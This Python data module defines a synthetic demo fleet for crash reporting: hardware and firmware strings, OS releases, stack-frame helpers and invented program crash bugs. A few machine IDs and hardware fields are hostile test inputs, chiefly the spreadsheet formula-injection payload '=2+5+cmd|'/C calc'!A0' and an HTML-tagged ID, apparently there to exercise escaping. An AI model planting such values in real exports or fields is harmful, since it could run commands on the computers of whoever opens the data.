"""What the demo fleet is made of: hardware, systems, bugs. Tables only (pure).

Nothing here was captured from a machine; it only has the shape of what machines send.
"""

from math import inf
from typing import NamedTuple

# --- Hardware -----------------------------------------------------------------------


class Hardware(NamedTuple):
    """A machine model as its firmware describes it; ``cpuid`` as mcelog prints it."""

    arch: str
    host_type: str
    board_name: str
    cpu_model: str
    bios_version: str
    cpuid: str = ""
    virtual: bool = False


_INTEL = "Vendor Intel Family 6 Model "
_AMD = "Vendor AMD Family "
_X86, _ARM, _RISCV = "x86_64", "aarch64", "riscv64"

# Commonest first: a model's share falls with its rank.
HARDWARE = (
    Hardware(
        _X86,
        "Intel Corporation|NUC8i5BEH|J72747-305",
        "NUC8BEB|Intel Corporation",
        "Intel(R) Core(TM) i5-8259U CPU @ 2.30GHz",
        "BECFL357.86A.0094.2023.0612.1507",
        _INTEL + "142 Step 10",
    ),
    Hardware(
        _X86,
        "QEMU|Standard PC (i440FX + PIIX, 1996)|pc-i440fx-8.2",
        "no_bn_file|no_bv_file",
        "Intel Xeon Processor (Cascadelake)",
        "rel-1.16.3-0-ga6ed6b701f0a-prebuilt.qemu.org",
        virtual=True,
    ),
    Hardware(
        _X86,
        "LENOVO|21CBCTO1WW|ThinkPad X1 Carbon Gen 10",
        "21CBCTO1WW|LENOVO",
        "12th Gen Intel(R) Core(TM) i7-1260P",
        "N3AET75W (1.40 )",
        _INTEL + "154 Step 3",
    ),
    Hardware(
        _X86,
        "Dell Inc.|PowerEdge R740|blank",
        "06WXJT|Dell Inc.",
        "Intel(R) Xeon(R) Gold 6148 CPU @ 2.40GHz",
        "2.19.1",
        _INTEL + "85 Step 4",
    ),
    Hardware(
        _X86,
        "Dell Inc.|OptiPlex 7080|blank",
        "0J37VM|Dell Inc.",
        "Intel(R) Core(TM) i7-10700 CPU @ 2.90GHz",
        "1.27.0",
        _INTEL + "165 Step 5",
    ),
    Hardware(
        _X86,
        "Intel Corporation|NUC11TNHi5|M11904-404",
        "NUC11TNBi5|Intel Corporation",
        "11th Gen Intel(R) Core(TM) i5-1135G7 @ 2.40GHz",
        "TNTGL357.0071.2023.0510.1452",
        _INTEL + "140 Step 1",
    ),
    Hardware(
        _X86,
        "Supermicro|SYS-1029P-WTR|0123456789",
        "X11DDW-NT|Supermicro",
        "Intel(R) Xeon(R) Gold 6252 CPU @ 2.10GHz",
        "3.8b",
        _INTEL + "85 Step 7",
    ),
    Hardware(
        _X86,
        "ASUS|System Product Name|System Version",
        "ROG STRIX B550-F GAMING|ASUSTeK COMPUTER INC.",
        "AMD Ryzen 7 5800X 8-Core Processor",
        "3607",
        _AMD + "25 Model 33 Step 0",
    ),
    Hardware(
        _X86,
        "HP|HP EliteDesk 800 G5 Desktop Mini|SBKPF",
        "8594|HP",
        "Intel(R) Core(TM) i5-9500T CPU @ 2.20GHz",
        "R21 Ver. 02.19.00",
        _INTEL + "158 Step 10",
    ),
    Hardware(
        _X86,
        "Microsoft Corporation|Virtual Machine|Hyper-V UEFI Release v4.1",
        "Virtual Machine|Microsoft Corporation",
        "Intel(R) Xeon(R) Platinum 8272CL CPU @ 2.60GHz",
        "Hyper-V UEFI Release v4.1",
        virtual=True,
    ),
    Hardware(
        _X86,
        "HPE|ProLiant DL380 Gen10|blank",
        "ProLiant DL380 Gen10|HPE",
        "Intel(R) Xeon(R) Silver 4214 CPU @ 2.20GHz",
        "U30",
        _INTEL + "85 Step 7",
    ),
    Hardware(
        _X86,
        "LENOVO|20XWCTO1WW|ThinkPad X1 Carbon Gen 9",
        "20XWCTO1WW|LENOVO",
        "11th Gen Intel(R) Core(TM) i7-1185G7 @ 3.00GHz",
        "N32ET86W (1.62 )",
        _INTEL + "140 Step 1",
    ),
    Hardware(
        _ARM,
        "Raspberry Pi|Raspberry Pi 5 Model B Rev 1.0|blank",
        "no_bn_file|no_bv_file",
        "Cortex-A76",
        "2024.10",
    ),
    Hardware(
        _X86,
        "Gigabyte Technology Co., Ltd.|X570 AORUS ELITE|-CF",
        "X570 AORUS ELITE|Gigabyte Technology Co., Ltd.",
        "AMD Ryzen 9 3900X 12-Core Processor",
        "F37f",
        _AMD + "23 Model 113 Step 0",
    ),
    Hardware(
        _X86,
        "Amazon EC2|m5.xlarge|blank",
        "blank|Amazon EC2",
        "Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz",
        "1.0",
        virtual=True,
    ),
    Hardware(
        _X86,
        "Dell Inc.|XPS 13 9310|blank",
        "0MRT12|Dell Inc.",
        "11th Gen Intel(R) Core(TM) i7-1165G7 @ 2.80GHz",
        "3.20.0",
        _INTEL + "140 Step 1",
    ),
    Hardware(
        _X86,
        "Supermicro|AS -1114S-WTRT|0123456789",
        "H12SSW-NT|Supermicro",
        "AMD EPYC 7402P 24-Core Processor",
        "2.7",
        _AMD + "23 Model 49 Step 0",
    ),
    Hardware(
        _X86,
        "VMware, Inc.|VMware20,1|None",
        "440BX Desktop Reference Platform|Intel Corporation",
        "Intel(R) Xeon(R) Gold 5218R CPU @ 2.10GHz",
        "VMW201.00V.21805430.B64.2305221830",
        virtual=True,
    ),
    Hardware(
        _X86,
        "Acme GmbH|Edge Box 200|rev C",
        "EB-200|Acme GmbH",
        "Intel(R) Atom(TM) x6425E @ 2.00GHz",
        "EB2.0417",
        _INTEL + "150 Step 1",
    ),
    Hardware(
        _ARM,
        "Acme GmbH|Edge Box 90|rev A",
        "EB-90|Acme GmbH",
        "Cortex-A53",
        "U-Boot 2024.07",
    ),
    Hardware(
        _X86,
        "Framework|Laptop (13th Gen Intel Core)|A6",
        "FRANMCCP06|Framework",
        "13th Gen Intel(R) Core(TM) i5-1340P",
        "03.05",
        _INTEL + "186 Step 2",
    ),
    Hardware(
        _X86,
        "Intel Corporation|S2600WFT|....................",
        "S2600WFT|Intel Corporation",
        "Intel(R) Xeon(R) Platinum 8180 CPU @ 2.50GHz",
        "SE5C620.86B.02.01.0017.110620230543",
        _INTEL + "85 Step 4",
    ),
    Hardware(
        _X86,
        "LENOVO|20UES00000|ThinkPad T14 Gen 1",
        "20UES00000|LENOVO",
        "AMD Ryzen 5 PRO 4650U with Radeon Graphics",
        "R1BET76W(1.45 )",
        _AMD + "23 Model 96 Step 1",
    ),
    Hardware(
        _ARM,
        "Amazon EC2|c7g.large|blank",
        "blank|Amazon EC2",
        "Neoverse-V1",
        "1.0",
        virtual=True,
    ),
    Hardware(
        _X86,
        "Acer|Aspire A515-56|V1.24",
        "Iris_TL|TGL",
        "11th Gen Intel(R) Core(TM) i3-1115G4 @ 3.00GHz",
        "V1.24",
        _INTEL + "140 Step 1",
    ),
    Hardware(
        _X86,
        "To Be Filled By O.E.M.|To Be Filled By O.E.M.|To Be Filled By O.E.M.",
        "B450M Pro4|ASRock",
        "AMD Ryzen 5 2600 Six-Core Processor",
        "P5.10",
        _AMD + "23 Model 8 Step 2",
    ),
    Hardware(
        _X86,
        "GOOGLE|Google Compute Engine|blank",
        "Google Compute Engine|Google",
        "AMD EPYC 7B13",
        "Google",
        virtual=True,
    ),
    Hardware(
        _X86,
        "AAEON|UP-APL01|V0.4",
        "UP-APL01|AAEON",
        "Intel(R) Celeron(R) CPU N3350 @ 1.10GHz",
        "UPA1AM62",
        _INTEL + "92 Step 9",
    ),
    Hardware(
        _X86,
        "Dell Inc.|Precision 5820 Tower|blank",
        "0X8DXD|Dell Inc.",
        "Intel(R) Xeon(R) W-2145 CPU @ 3.70GHz",
        "2.33.0",
        _INTEL + "85 Step 4",
    ),
    Hardware(
        _ARM,
        "FOXCONN|Mt. Collins|EVT3",
        "Mt. Collins|FOXCONN",
        "Ampere(R) Altra(R) Max Processor",
        "1.07.20220729",
    ),
    Hardware(
        _RISCV,
        "StarFive|VisionFive 2|v1.3B",
        "no_bn_file|no_bv_file",
        "sifive,u74-mc",
        "2023.04",
    ),
    Hardware(
        _X86,
        "HP|HP ProBook 450 G8 Notebook PC|blank",
        "87E3|HP",
        "11th Gen Intel(R) Core(TM) i5-1135G7 @ 2.40GHz",
        "T78 Ver. 01.17.00",
        _INTEL + "140 Step 1",
    ),
    Hardware(
        _X86,
        "MSI|MS-7C56|2.0",
        "MPG B550 GAMING PLUS (MS-7C56)|Micro-Star International Co., Ltd.",
        "AMD Ryzen 5 5600G with Radeon Graphics",
        "1.H0",
        _AMD + "25 Model 80 Step 0",
    ),
    Hardware(
        _X86,
        "Apple Inc.|Macmini8,1|1.0",
        "Mac-7BA5B2DFE22DDD8C|Apple Inc.",
        "Intel(R) Core(TM) i7-8700B CPU @ 3.20GHz",
        "2022.100.22.0.0 (iBridge: 21.16.4222.0.0,0)",
        _INTEL + "158 Step 10",
    ),
    Hardware(
        _X86,
        "Fujitsu|PRIMERGY RX2540 M4|GS01",
        "D3384-A1|FUJITSU",
        "Intel(R) Xeon(R) Silver 4110 CPU @ 2.10GHz",
        "V5.0.0.12 R1.55.0 for D3384-A1x",
        _INTEL + "85 Step 4",
    ),
    Hardware(
        _RISCV,
        "SiFive|HiFive Premier P550|rev 1",
        "no_bn_file|no_bv_file",
        "sifive,p550",
        "U-Boot 2024.01",
    ),
    Hardware(
        _X86,
        "Müller & Söhne|Kiosk™ <7>|v2: “Zürich”",
        "K7: main|Müller & Söhne",
        "Intel(R) Pentium(R) Silver N5000 CPU @ 1.10GHz",
        "Ver: 5.12, Date: 03/07/22",
        _INTEL + "122 Step 1",
    ),
    Hardware(
        _X86,
        "no_sv_file|no_pn_file|no_pvr_file",
        "no_bn_file|no_bv_file",
        "AMD EPYC",
        "no_bv_file",
        virtual=True,
    ),
    Hardware(
        _X86,
        "Acme: Test, Inc.|=Model|+1|@x",
        "-1+1|=Board",
        "12th Gen Intel(R) Core(TM) i3-12100",
        '"quoted", 1.0',
        _INTEL + "151 Step 5",
    ),
    Hardware(
        _X86,
        "Shuttle Inc.|DH310S|V1.0",
        "FH310S|Shuttle Inc.",
        "blank",
        "2.05",
        _INTEL + "158 Step 11",
    ),
)

# --- Systems ------------------------------------------------------------------------

CLEAR = "clear-linux-os"
EDGE = "acme-edge"


class Release(NamedTuple):
    """A build of a system. ``position`` is when it came out in the time shown: 0 is
    the beginning, 1 the end. ``kernel`` may name the machine's {flavour} and {arch}.
    """

    position: float
    build: str
    kernel: str


OLD = -1.0
RELEASES: dict[str, tuple[Release, ...]] = {
    "fedora_workstation": (
        Release(OLD, "43", "6.17.8-300.fc43.{arch}"),
        Release(0.4, "44", "6.19.10-300.fc44.{arch}"),
    ),
    "opensuse-leap": (Release(OLD, "15.6", "6.4.0-150600.23.65-default"),),
    "ubuntu": (Release(OLD, "24.04", "6.8.0-88-generic"),),
    EDGE: (
        Release(OLD, "2.9.3", "6.6.58-acme4"),
        Release(0.2, "2.10.0-rc1", "6.12.9-acme1"),
        Release(0.45, "2.10.0-rc2", "6.12.11-acme1"),
        Release(0.7, "2.10.0", "6.12.11-acme2"),
    ),
}
"""Clear Linux is missing: its builds come out every few days, see demo.py."""

SYSTEMS_BY_ARCH: dict[str, dict[str, float]] = {
    _X86: {
        CLEAR: 82,
        "fedora_workstation": 6,
        "opensuse-leap": 4,
        "ubuntu": 4,
        EDGE: 4,
    },
    _ARM: {"ubuntu": 30, "fedora_workstation": 20, EDGE: 50},
    _RISCV: {"ubuntu": 60, "fedora_workstation": 40},
}

STATIC_IDS = (
    "lab rack 7",
    "unique machine ID: kiosk 12",
    "<b>front desk</b>",
    "=2+5+cmd|'/C calc'!A0",
    "büro-drucker",
)

# --- Frames of user-space programs --------------------------------------------------

Frames = tuple[str, ...]


def at(module: str, *functions: str) -> Frames:
    """Frames in ``module``; a function may be followed by a space and its source."""
    parts = (function.partition(" ") for function in functions)
    return tuple(
        name
        + ("" if name == "???" else "()")
        + f" - [{module}]"
        + (f" - {source}" if source else "")
        for name, _, source in parts
    )


_LIBC = "libc.so.6"


def main_of(program: str, *functions: str) -> Frames:
    """What is below everything in the main thread of ``program``."""
    return (
        *at(program, *functions, "main"),
        *at(
            _LIBC,
            "__libc_start_call_main ../sysdeps/nptl/libc_start_call_main.h:58",
            "__libc_start_main@@GLIBC_2.34 ../csu/libc-start.c:360",
        ),
        *at(program, "_start"),
    )


ABORT = at(
    _LIBC,
    "__pthread_kill_implementation ./nptl/pthread_kill.c:44",
    "raise ../sysdeps/posix/raise.c:26",
    "abort ./stdlib/abort.c:79",
)
ASSERT = ABORT + at(
    _LIBC, "__assert_fail_base.cold ./assert/assert.c:94", "__assert_fail"
)
HEAP_ABORT = ABORT + at(
    _LIBC,
    "__libc_message_impl.cold ./libio/libc_fatal.c:134",
    "malloc_printerr ./malloc/malloc.c:5772",
    "_int_free ./malloc/malloc.c:4588",
    "__libc_free@GLIBC_2.2.5 ./malloc/malloc.c:3398",
)
CXX_THROW = ABORT + at("libstdc++.so.6", "???", "???", "_ZSt9terminatev", "__cxa_throw")
GLIB_FATAL = at("libglib-2.0.so.0", "g_log_structured_array.part.0", "g_logv", "g_log")
THREAD = at(
    _LIBC,
    "start_thread ./nptl/pthread_create.c:447",
    "__clone3 ../sysdeps/unix/sysv/linux/x86_64/clone3.S:78",
)
GTHREAD = at("libglib-2.0.so.0", "g_thread_proxy") + THREAD
GLIB_LOOP = at(
    "libglib-2.0.so.0",
    "g_main_dispatch",
    "g_main_context_dispatch_unlocked",
    "g_main_context_iterate_unlocked.isra.0",
    "g_main_loop_run",
)
SIGNAL_EMIT = at(
    "libgobject-2.0.so.0",
    "g_closure_invoke",
    "signal_emit_unlocked_R.isra.0",
    "g_signal_emit_valist",
    "g_signal_emit",
)
PYTHON_LOOP = at(
    "libpython3.13.so.1.0",
    "_PyEval_EvalFrameDefault",
    "_PyFunction_Vectorcall",
    "_PyEval_EvalFrameDefault",
    "PyEval_EvalCode",
    "run_mod",
    "_PyRun_SimpleFileObject",
    "Py_RunMain",
    "Py_BytesMain",
)

IDLE_THREADS = (
    at(_LIBC, "__poll ../sysdeps/unix/sysv/linux/poll.c:29")
    + at(
        "libglib-2.0.so.0",
        "g_main_context_iterate_unlocked.isra.0",
        "g_main_context_iteration",
        "glib_worker_main",
    )
    + GTHREAD,
    at(_LIBC, "syscall ../sysdeps/unix/sysv/linux/x86_64/syscall.S:38")
    + at("libglib-2.0.so.0", "g_cond_wait_until", "g_async_queue_timeout_pop")
    + at("libglib-2.0.so.0", "g_thread_pool_thread_proxy")
    + GTHREAD,
    at(
        _LIBC,
        "__futex_abstimed_wait_common ./nptl/futex-internal.c:57",
        "pthread_cond_wait@@GLIBC_2.3.2 ./nptl/pthread_cond_wait.c:503",
    )
    + THREAD,
    at(_LIBC, "epoll_wait ../sysdeps/unix/sysv/linux/epoll_wait.c:30")
    + at("libuv.so.1", "uv__io_poll", "uv_run")
    + THREAD,
    at(
        _LIBC,
        "clock_nanosleep@GLIBC_2.17 ../sysdeps/unix/sysv/linux/clock_nanosleep.c:48",
        "nanosleep",
        "usleep ../sysdeps/posix/usleep.c:31",
    )
    + THREAD,
)

# --- User-space bugs ----------------------------------------------------------------


class Bug(NamedTuple):
    """A defect that crashes a program again and again.

    ``fault``: frames down to the faulty function, the same every time; ``callers``: one
    of these is below it; ``ending``: the bottom of the stack. It happens on releases
    from position ``since`` until before ``fixed``.
    """

    program: str
    signal: int
    fault: Frames
    callers: tuple[Frames, ...]
    ending: Frames
    threads: int = 0
    since: float = -inf
    fixed: float = inf
    recursive: bool = False


_SHELL = "/usr/bin/gnome-shell"
_FILES = "/usr/bin/nautilus"
_RESOLVED = "/usr/lib/systemd/systemd-resolved"
_INDEXER = "/usr/bin/mediaindexd"
_PYTHON = "/usr/bin/python3.13"
_STORE = "/usr/bin/gnome-software"
_PACKAGES = "/usr/libexec/packagekitd"
_CALENDAR = "/usr/libexec/evolution-calendar-factory"
_NETWORK = "/usr/bin/NetworkManager"
_TILES = "/usr/bin/tile-renderer"
_SOUND = "/usr/bin/pipewire"
_QEMU = "/usr/bin/qemu-system-x86_64"
_UPDATER = "/usr/bin/swupd"
_XORG = "/usr/bin/Xwayland"
_TRACKER = "/usr/libexec/localsearch-3"
_THERMAL = "/usr/bin/thermald"
_POWER = "/usr/libexec/upowerd"
_EDITOR = "/usr/bin/emacs-30.1"
_MAIL = "/usr/bin/geary"
_DECODER = "/usr/bin/ffmpeg"
_LOGIN = "/usr/libexec/gdm-session-worker"
_HELPER = "/usr/bin/sensor-helper"
_BROWSER = "/usr/libexec/webkitgtk-6.0/WebKitWebProcess"
_COMPILER = "/usr/lib64/gcc/x86_64-generic-linux/14/cc1plus"
_DATABASE = "/usr/bin/postgres"
_FLOWS = "/usr/bin/flow-collector"

# Commonest first: a bug's share falls with its rank.
BUGS = (
    Bug(
        _SHELL,
        11,
        at(
            "libmutter-17.so.0",
            "meta_window_actor_queue_frame meta-window-actor.c:812",
            "meta_compositor_real_before_paint meta-compositor.c:1203",
        ),
        (
            at("libmutter-17.so.0", "meta_compositor_before_paint"),
            at("libmutter-17.so.0", "meta_compositor_before_paint")
            + at("libmutter-17.so.0", "meta_stage_handle_update", "on_before_update")
            + SIGNAL_EMIT,
            at("libmutter-17.so.0", "meta_later_invoke", "meta_laters_on_update")
            + SIGNAL_EMIT,
        ),
        at("libmutter-17.so.0", "clutter_frame_clock_dispatch")
        + GLIB_LOOP
        + main_of(_SHELL),
        threads=4,
    ),
    Bug(
        _INDEXER,
        11,
        at(
            _INDEXER,
            "_ZN5media7Catalog6insertERKNSt7__cxx1112basic_stringIcSt11char_traitsIcE"
            "SaIcEEEj src/catalog.cpp:214",
        ),
        (
            at(
                _INDEXER,
                "_ZN5media7Scanner9visitFileERKNSt10filesystem7__cxx114pathE"
                " src/scanner.cpp:97",
            ),
            at(
                _INDEXER,
                "_ZN5media7Scanner9visitFileERKNSt10filesystem7__cxx114pathE"
                " src/scanner.cpp:97",
                "_ZN5media7Scanner4walkERKNSt10filesystem7__cxx114pathEi"
                " src/scanner.cpp:141",
                "_ZN5media7Scanner4walkERKNSt10filesystem7__cxx114pathEi"
                " src/scanner.cpp:148",
            ),
            at(_INDEXER, "_ZN5media7Watcher9onCreatedEv src/watcher.cpp:60"),
        ),
        main_of(_INDEXER),
    ),
    Bug(
        _RESOLVED,
        6,
        ABORT
        + at(
            "libsystemd-shared-257.so",
            "log_assert_failed src/basic/log.c:968",
        )
        + at(
            _RESOLVED,
            "dns_transaction_process_reply src/resolve/resolved-dns-transaction.c:1184",
        ),
        (
            at(_RESOLVED, "on_dns_packet src/resolve/resolved-dns-transaction.c:1502"),
            at(_RESOLVED, "on_stream_packet", "dns_stream_complete", "on_stream_io"),
        ),
        at("libsystemd-shared-257.so", "source_dispatch", "sd_event_dispatch")
        + at("libsystemd-shared-257.so", "sd_event_run", "sd_event_loop")
        + main_of(_RESOLVED, "run"),
        since=0.45,
    ),
    Bug(
        _FILES,
        11,
        at("libgobject-2.0.so.0", "g_type_check_instance_is_fundamentally_a")
        + at("libgobject-2.0.so.0", "g_object_ref")
        + at(_FILES, "nautilus_view_item_get_file", "real_compare_selection"),
        (
            at(_FILES, "nautilus_list_base_set_selection", "done_loading"),
            at(_FILES, "nautilus_files_view_update_context_menus", "update_idle_cb"),
        ),
        GLIB_LOOP[:3] + at("libgio-2.0.so.0", "g_application_run") + main_of(_FILES),
        threads=3,
    ),
    Bug(
        _STORE,
        6,
        HEAP_ABORT
        + at("libgs_plugin_flatpak.so", "gs_flatpak_refine_app_metadata_free"),
        (
            at("libgs_plugin_flatpak.so", "gs_flatpak_refine_app", "refine_thread_cb"),
            at("libgs_plugin_flatpak.so", "gs_flatpak_list_apps", "list_apps_thread"),
        ),
        at("libgnomesoftware.so.22", "thread_cb") + GTHREAD,
        threads=9,
    ),
    Bug(
        _PYTHON,
        11,
        at(
            "_numerics.cpython-313-x86_64-linux-gnu.so",
            "sum_strided.constprop.0 src/numerics/reduce.c:88",
            "array_sum src/numerics/reduce.c:131",
        ),
        (
            at("libpython3.13.so.1.0", "cfunction_vectorcall_FASTCALL_KEYWORDS"),
            at("libpython3.13.so.1.0", "method_vectorcall", "PyObject_Call"),
        ),
        PYTHON_LOOP + main_of(_PYTHON),
    ),
    Bug(
        _PACKAGES,
        11,
        at(_PACKAGES, "???", "???", "???"),
        (at(_PACKAGES, "???"), at("libpk_backend_swupd.so", "???", "???")),
        GTHREAD,
        threads=2,
    ),
    Bug(
        _TILES,
        6,
        CXX_THROW
        + at("libstdc++.so.6", "_ZSt20__throw_length_errorPKc")
        + at(
            _TILES,
            "_ZNSt6vectorIhSaIhEE17_M_default_appendEm"
            " /usr/include/c++/14/bits/vector.tcc:640",
            "_ZN8renderer9TileCache6lookupERKNS_7TileKeyE src/tile_cache.cpp:73",
        ),
        (
            at(_TILES, "_ZN8renderer10TileWorker3runEv src/tile_worker.cpp:41"),
            at(
                _TILES,
                "_ZN8renderer10TileWorker8prefetchEiiib src/tile_worker.cpp:66",
                "_ZN8renderer10TileWorker3runEv src/tile_worker.cpp:44",
            ),
        ),
        at(
            _TILES,
            "_ZNSt6thread11_State_implINS_8_InvokerISt5tupleIJMN8renderer10TileWorker"
            "EFvvEPS4_EEEEE6_M_runEv",
        )
        + at("libstdc++.so.6", "execute_native_thread_routine")
        + THREAD,
        threads=40,
    ),
    Bug(
        _CALENDAR,
        11,
        at(
            "libecal-2.0.so.3",
            "e_cal_recur_expand_rule e-cal-recur.c:1207",
        ),
        (
            at("libecal-2.0.so.3", "e_cal_recur_expand_rule e-cal-recur.c:1219"),
            at("libecal-2.0.so.3", "e_cal_recur_expand_rule e-cal-recur.c:1233"),
        ),
        GTHREAD,
        recursive=True,
    ),
    Bug(
        _NETWORK,
        6,
        at("libglib-2.0.so.0", "g_assertion_message", "g_assertion_message_expr")
        + at(_NETWORK, "nm_l3cfg_commit_on_idle_cb src/core/nm-l3cfg.c:3998"),
        (at(_NETWORK, "_commit_now"), at(_NETWORK, "_lease_update", "_on_lease_cb")),
        GLIB_LOOP + main_of(_NETWORK),
        threads=2,
        fixed=0.6,
    ),
    Bug(
        _SOUND,
        11,
        at(
            "libspa-alsa.so",
            "alsa_write_frames spa/plugins/alsa/alsa-pcm.c:2514",
            "spa_alsa_write spa/plugins/alsa/alsa-pcm.c:2660",
        ),
        (
            at("libspa-alsa.so", "impl_node_process"),
            at("libspa-audioconvert.so", "follower_process", "impl_node_process"),
        ),
        at("libpipewire-0.3.so.0", "process_node", "node_on_fd_events")
        + at("libspa-support.so", "loop_iterate")
        + at("libpipewire-0.3.so.0", "do_loop")
        + THREAD,
        threads=2,
    ),
    Bug(
        _UPDATER,
        11,
        at(
            _UPDATER,
            "hash_is_equal.isra.0 src/lib/hash.c:61",
            "manifest_file_differs src/swupd_lib/manifest.c:402",
        ),
        (
            at(_UPDATER, "link_manifests", "update_loop", "execute_update"),
            at(_UPDATER, "verify_files", "execute_verify"),
        ),
        main_of(_UPDATER, "update_main"),
        since=0.15,
        fixed=0.8,
    ),
    Bug(
        _XORG,
        11,
        at("radeonsi_dri.so", "si_set_sampler_views.part.0", "si_bind_fragment"),
        (
            at("radeonsi_dri.so", "st_update_fragment_textures", "st_validate_state"),
            at("radeonsi_dri.so", "st_draw_vbo", "_mesa_draw_arrays.part.0"),
        ),
        at("libglamor.so", "???")
        + at(_XORG, "ProcRenderComposite", "Dispatch", "dix_main")
        + main_of(_XORG),
        threads=6,
    ),
    Bug(
        _TRACKER,
        7,
        at("libsqlite3.so.0", "walIndexPage", "walFindFrame", "getPageNormal"),
        (
            at("libsqlite3.so.0", "getAndInitPage", "moveToRoot", "sqlite3VdbeExec"),
            at("libsqlite3.so.0", "sqlite3PagerGet", "lockBtree", "sqlite3VdbeExec"),
        ),
        at("libsqlite3.so.0", "sqlite3_step")
        + at("libtinysparql-3.0.so.0", "execute_stmt", "tracker_db_interface_execute")
        + GTHREAD,
        threads=5,
    ),
    Bug(
        _THERMAL,
        6,
        CXX_THROW
        + at(
            _THERMAL,
            "_ZN16cthd_zone_parser10parse_zoneERKNSt7__cxx1112basic_stringIcSt11char_"
            "traitsIcESaIcEEE src/zone_parser.cpp:118",
        ),
        (
            at(_THERMAL, "_ZN16cthd_zone_parser5startEv src/zone_parser.cpp:40"),
            at(_THERMAL, "_ZN11cthd_engine10reload_allEb src/engine.cpp:377"),
        ),
        main_of(_THERMAL, "_ZL15start_servicingi"),
    ),
    Bug(
        _POWER,
        5,
        GLIB_FATAL + at(_POWER, "up_device_supply_coldplug"),
        (at(_POWER, "up_enumerator_add"), at(_POWER, "uevent_cb") + SIGNAL_EMIT),
        GLIB_LOOP + main_of(_POWER),
    ),
    Bug(
        _BROWSER,
        11,
        at(
            "libwebkitgtk-6.0.so.4",
            "_ZN7WebCore11RenderBlock17layoutBlockFloatsEbRNS_10LayoutUnitES2_",
            "_ZN7WebCore11RenderBlock6layoutEv",
        ),
        (
            at("libwebkitgtk-6.0.so.4", "_ZN7WebCore10RenderView6layoutEv"),
            at(
                "libwebkitgtk-6.0.so.4",
                "_ZN7WebCore11RenderTable10layoutRowsEi",
                "_ZN7WebCore11RenderTable6layoutEv",
                "_ZN7WebCore10RenderView6layoutEv",
            ),
        ),
        at(
            "libwebkitgtk-6.0.so.4",
            "_ZN7WebCore9FrameView13performLayoutEv",
            "_ZN7WebCore9ScrollbarIiLb1EE6notifyERKSt8functionIFvPNS_4NodeEEE",
        )
        + at("libjavascriptcoregtk-6.0.so.1", "_ZN3WTF7RunLoop3runEv")
        + main_of(_BROWSER),
        threads=12,
    ),
    Bug(
        _QEMU,
        6,
        ASSERT + at(_QEMU, "virtio_blk_zone_report_complete hw/block/virtio-blk.c:627"),
        (at(_QEMU, "aio_bh_poll", "aio_dispatch"), at(_QEMU, "blk_aio_complete")),
        at(_QEMU, "aio_ctx_dispatch", "main_loop_wait", "qemu_main_loop")
        + main_of(_QEMU),
        threads=8,
    ),
    Bug(
        _EDITOR,
        11,
        at(_EDITOR, "mark_object.cold", "process_mark_stack", "mark_vectorlike"),
        (at(_EDITOR, "garbage_collect"), at(_EDITOR, "maybe_gc", "eval_sub")),
        at(_EDITOR, "Ffuncall", "command_loop_1", "recursive_edit_1")
        + main_of(_EDITOR),
    ),
    Bug(
        _DECODER,
        8,
        at("libavcodec.so.61", "scale_motion_vectors", "decode_slice_data"),
        (
            at("libavcodec.so.61", "decode_frame", "frame_worker_thread"),
            at("libavcodec.so.61", "hevc_frame_start.isra.0", "frame_worker_thread"),
        ),
        THREAD,
        threads=15,
    ),
    Bug(
        _LOGIN,
        6,
        HEAP_ABORT + at("pam_gnome_keyring.so", "pam_sm_close_session"),
        (at("libpam.so.0", "_pam_dispatch"), at("libpam.so.0", "pam_close_session")),
        main_of(_LOGIN, "gdm_session_worker_uninitialize_pam"),
    ),
    Bug(
        _HELPER,
        11,
        ("(no symbols)", *at(_HELPER, "read_sensor sensor.c:55")),
        (at(_HELPER, "poll_all sensor.c:80"), ("(no symbols)", "(no symbols)")),
        main_of(_HELPER),
    ),
    Bug(
        _MAIL,
        11,
        at("libgmime-3.0.so.0", "g_mime_parser_construct_part.part.0"),
        (
            at(_MAIL, "geary_rf_c822_message_construct", "geary_imap_fetch_co"),
            at(_MAIL, "geary_email_get_message", "conversation_list_load_co"),
        ),
        at("libgio-2.0.so.0", "g_task_return_now", "complete_in_idle_cb")
        + GLIB_LOOP
        + main_of(_MAIL, "_vala_main"),
        threads=4,
        since=0.7,
    ),
    Bug(
        _COMPILER,
        11,
        at(_COMPILER, "_ZL21tsubst_pack_expansionP9tree_nodeS0_iS0_"),
        (
            at(_COMPILER, "_Z11tsubst_exprP9tree_nodeS0_iS0_"),
            at(
                _COMPILER,
                "_Z6tsubstP9tree_nodeS0_iS0_",
                "_Z16instantiate_declP9tree_nodebb",
            ),
        ),
        main_of(_COMPILER, "_Z13c_parse_finalv", "_ZL12compile_filev"),
    ),
    Bug(
        _DATABASE,
        6,
        ABORT + at(_DATABASE, "errfinish", "XLogFileInitInternal"),
        (at(_DATABASE, "XLogWrite", "XLogFlush"), at(_DATABASE, "XLogBackgroundFlush")),
        main_of(_DATABASE, "PostmasterMain"),
    ),
    Bug(
        _FLOWS,
        11,
        at(
            _FLOWS,
            "_ZN4flow5TableISt4pairIjtENS_6RecordEE4findERKS2_ src/table.hpp:52",
        ),
        (
            at(_FLOWS, "_ZN4flow9Collector6ingestEPKhm src/collector.cpp:90"),
            at(_FLOWS, "_ZN4flow9Collector6expireEl src/collector.cpp:133"),
        ),
        main_of(_FLOWS),
        since=0.3,
    ),
)

_AGENT = "/opt/acme/bin/edge-agent"
_CAMERA = "/opt/acme/bin/camera-gateway"
EDGE_BUGS = (
    Bug(
        _AGENT,
        11,
        at(
            _AGENT,
            "_ZN4edge4core8Pipeline4pushESt10shared_ptrINS0_5FrameEE"
            " core/pipeline.cc:88",
        ),
        (
            at(_AGENT, "_ZN4edge3net7Session10onReadableEi net/session.cc:140"),
            at(_AGENT, "_ZN4edge4core5Timer4fireEv core/timer.cc:31"),
        ),
        main_of(_AGENT),
        threads=3,
        since=0.1,
        fixed=0.65,
    ),
    Bug(
        _CAMERA,
        6,
        ASSERT + at("libacmevideo.so.2", "av_ring_pop"),
        (at("libacmevideo.so.2", "encode_loop"), at("libacmevideo.so.2", "drain")),
        THREAD,
        threads=2,
    ),
)

# --- Kernel -------------------------------------------------------------------------


class KernelBug(NamedTuple):
    """A defect or complaint of the kernel. ``event`` ends its classification."""

    event: str
    reason: str
    fault: Frames
    callers: tuple[Frames, ...]
    tainted: str = "Not tainted"


_SYSCALL = ("do_syscall_64", "entry_SYSCALL_64_after_hwframe")
_KTHREAD = ("kthread", "ret_from_fork", "ret_from_fork_asm")
_IDLE = ("cpuidle_enter_state", "cpuidle_enter", "do_idle", "cpu_startup_entry")
_WORKER = ("process_one_work", "worker_thread", *_KTHREAD)

